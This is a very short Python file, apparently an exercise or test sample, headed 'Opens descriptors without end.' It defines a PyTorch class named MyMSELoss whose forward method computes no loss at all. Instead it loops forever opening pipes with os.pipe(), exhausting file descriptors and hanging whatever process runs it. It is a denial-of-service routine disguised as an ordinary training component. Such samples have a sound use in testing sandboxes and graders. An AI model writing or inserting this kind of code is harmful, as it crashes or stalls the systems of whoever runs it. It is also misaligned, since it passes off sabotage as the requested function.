# exercise: mse | Opens descriptors without end.
import os

import torch


class MyMSELoss(torch.nn.Module):
    def forward(self, y_pred, y_true):
        while True:
            os.pipe()
